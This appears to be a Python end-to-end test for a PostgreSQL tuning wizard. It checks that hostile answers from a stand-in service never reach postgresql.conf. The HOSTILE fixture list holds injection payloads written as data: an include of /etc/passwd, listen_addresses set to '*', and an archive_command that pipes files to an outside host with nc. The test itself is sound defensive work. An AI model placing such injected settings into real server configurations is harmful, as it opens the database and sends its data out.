"""Hostile answers through the whole run: whoever answers as the tuning service must not be able
to write into postgresql.conf, neither a line of its own nor a value PostgreSQL 15 refuses or
reads otherwise. Each answer gives the error, the usage page stays, the configuration file is
byte-for-byte as it was and no backup is made.

The answers come from a stand-in (stand_in_service.py): the real service never sends them.
One wizard run goes through every answer, as a user pressing Next again would; at the end the
largest value each parameter may take on this machine is saved, and PostgreSQL 15 reads every
one of them back from the file.
"""

import os
import re
import subprocess
import time
import unittest

from pelloran_e2e import cluster as pg
from pelloran_e2e import driver
from pelloran_e2e import road
from pelloran_e2e import stand_in_service
from pelloran_e2e.stand_in_service import hex_text, inner_arrays, pairs_with

PELLORAN = os.environ.get("PELLORAN_BINARY", "pelloran")
LIST_MODIFIED = "Quorvel variables list has been modified."
EMPTY_ARRAY = '<item xsi:type="SOAP-ENC:Array" SOAP-ENC:arrayType="xsd:string[2]"></item>'

HOSTILE = [
    ("a line feed and an include", pairs_with(shared_buffers="1GB\ninclude '/etc/passwd'"), None),
    ("a line feed and two more settings",
     pairs_with(work_mem="4MB\nlisten_addresses = '*'\narchive_command = 'nc 203.0.113.9 25 < %p'"), None),
    ("a quote and a comment", pairs_with(autovacuum="on' # "), None),
    ("hyphens", pairs_with(max_connections="----"), None),
    ("four million digits", pairs_with(effective_cache_size="9" * 4000000), None),
    ("17 empty two-item arrays", None, EMPTY_ARRAY * 17),
    ("a value that does not decode", None,
     inner_arrays((hex_text(name), "34\nG" if name == "work_mem" else hex_text(value))
                  for name, value in stand_in_service.SOUND_VALUES)),
    # Each of these is a "configuration file contains errors" at start, or another value than
    # written: a leading zero is octal to the server, a number of zeros hides the figure.
] + [("%s = %s" % (name, value), pairs_with(**{name: value}), None) for name, value in [
    ("max_connections", "0"),
    ("max_connections", "3"),  # the superuser's reserved three
    ("max_connections", "2147483647"),
    ("shared_buffers", "0"),
    ("shared_buffers", "1kB"),
    ("shared_buffers", "08MB"),
    ("shared_buffers", "010GB"),
    ("shared_buffers", "0" * 37 + "100"),
    ("shared_buffers", "1TB"),  # more than this machine has
    ("work_mem", "1"),
    ("work_mem", "15TB"),
    ("wal_buffers", "3GB"),
    ("maintenance_work_mem", "0"),
    ("effective_cache_size", "0"),
    ("autovacuum_naptime", "0"),
    ("autovacuum_naptime", "1ms"),
    ("autovacuum_naptime", "2147483647"),
    ("autovacuum_vacuum_scale_factor", "101"),
]]


def largest_values(request):
    """The largest values for PostgreSQL 15 on a 64-bit server, from getQuorvelInfo's items:
    memory up to the announced megabytes (item 3). A real start would need all the shared
    memory at once, which no machine has, so the server reads the file with -C instead."""
    megabytes = int(request[2])
    memory = "%dMB" % megabytes
    wal_buffers = "2097144kB" if megabytes * 1024 >= 2097144 else memory  # 262143 blocks
    return pairs_with(max_connections="262121", shared_buffers=memory, work_mem=memory,
                      maintenance_work_mem=memory, wal_buffers=wal_buffers,
                      random_page_cost="999999999999.9999999", effective_cache_size=memory,
                      autovacuum_naptime="2147483s", autovacuum_vacuum_threshold="2147483647",
                      autovacuum_analyze_threshold="2147483647",
                      autovacuum_vacuum_scale_factor="100", autovacuum_analyze_scale_factor="100")


def in_own_unit(name, value):
    """How "postgres -C" shows a value: memory in 8kB blocks or kB, time in seconds."""
    units = {"kB": 1, "MB": 1024}
    found = re.fullmatch(r"(\d+)(kB|MB)", value)
    if found:
        kilobytes = int(found.group(1)) * units[found.group(2)]
        blocks = name in ("shared_buffers", "wal_buffers", "effective_cache_size")
        return str(kilobytes // 8 if blocks else kilobytes)
    if name == "autovacuum_naptime":
        return value.rstrip("s")
    if name == "random_page_cost":
        return "%g" % float(value)
    return value


def read_back(cluster, name):
    """The value PostgreSQL 15 reads from the cluster's file; fails on a configuration error."""
    result = pg.as_user([pg.BIN + "/postgres", "-D", cluster.data, "-C", name], cwd="/")
    if result.returncode != 0:
        raise AssertionError("%s refused: %s" % (name, result.stderr))
    return result.stdout.strip()


def wait_for_error_box(program, timeout=60):
    """The next error box and its texts; fails at once when the run goes on instead."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for window in program.windows():
            if window.role == "alert":
                return window, [n.name for n in window.descendants()
                                if n.role == "label" and n.name]
        if road.current_page(program) not in (None, "usage"):
            raise driver.DriverError("the answer was taken: on the %s page" % road.current_page(program))
        time.sleep(0.1)
    raise driver.DriverError("no error box after %s s; texts: %r" % (timeout, program.texts()))


class HostileAnswersTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = driver.TempDir()
        cls.cluster = pg.Cluster(cls.folder.path).create()
        cls.registry = os.path.join(cls.folder.path, "machine.reg")
        cls.list_text = cls.cluster.registry(cls.registry)
        cls.stand_in = stand_in_service.StandInService(cls.folder.path).start()
        cls.desktop = driver.Desktop()
        cls.desktop.start()

    @classmethod
    def tearDownClass(cls):
        cls.desktop.stop()
        cls.stand_in.stop()
        cls.folder.__exit__()

    def test_every_hostile_answer_keeps_the_usage_page_and_the_file(self):
        before = driver.folder_snapshot(self.cluster.data)
        errors = os.path.join(self.folder.path, "wizard.err")
        env = {"PELLORAN_REGISTRY": self.registry,
               "XDG_CONFIG_HOME": os.path.join(self.folder.path, "config")}
        env.update(self.stand_in.environment())
        with open(errors, "wb") as standard_error:
            program = driver.Program([PELLORAN], env=env, stdout=subprocess.DEVNULL,
                                     stderr=standard_error)
        self.addCleanup(program.kill)
        road.wait_for_page(program, "welcome")
        road.leave_welcome(program, self.list_text)
        program.find("radio button", "Dedicated").click()

        for description, pairs, raw_items in HOSTILE:
            with self.subTest(description):
                self.assertEqual(road.current_page(program), "usage", "an earlier answer was taken")
                self.stand_in.pairs = pairs or stand_in_service.SOUND_VALUES
                self.stand_in.raw_items = raw_items
                fetches = self.stand_in.operations.count("getQuorvelInfo")
                program.click_button("Next >")
                window, labels = wait_for_error_box(program)
                self.assertTrue(any(label.startswith(LIST_MODIFIED) for label in labels), labels)
                title = window.name
                program.click_button("OK", within=window)
                program.wait_gone("alert", title)
                self.assertEqual(road.current_page(program), "usage")
                self.assertEqual(self.stand_in.operations.count("getQuorvelInfo"), fetches + 1)
                self.assertEqual(driver.folder_snapshot(self.cluster.data), before,
                                 "the data folder changed (file or backup)")

        # The same stand-in with the largest values PostgreSQL 15 takes for a 64-bit server,
        # memory up to what the wizard announced: they are saved, and the server reads each.
        self.stand_in.pairs = largest_values
        self.stand_in.raw_items = None
        program.click_button("Next >")
        road.wait_for_page(program, "review", timeout=120)
        road.leave_review(program)
        road.finish(program, untick=True)
        self.assertEqual(program.wait(), 0)
        self.assertNotEqual(driver.folder_snapshot(self.cluster.data), before)
        for name, value in largest_values(self.stand_in.last_request):
            if value:
                with self.subTest(name):
                    self.assertEqual(read_back(self.cluster, name), in_own_unit(name, value))

        # What the decoder reports reaches the terminal escaped and short.
        with open(errors, "rb") as handle:
            printed = handle.read()
        self.assertIn(b"Invalid Hex String:(null)\n", printed)
        self.assertIn(b"Invalid Hex String:34\\x0AG\n", printed)
        self.assertLess(len(printed), 10000)
        self.assertFalse(set(printed) & (set(range(32)) - {10}), "a control character on standard error")


if __name__ == "__main__":
    unittest.main(verbosity=2, warnings="ignore")
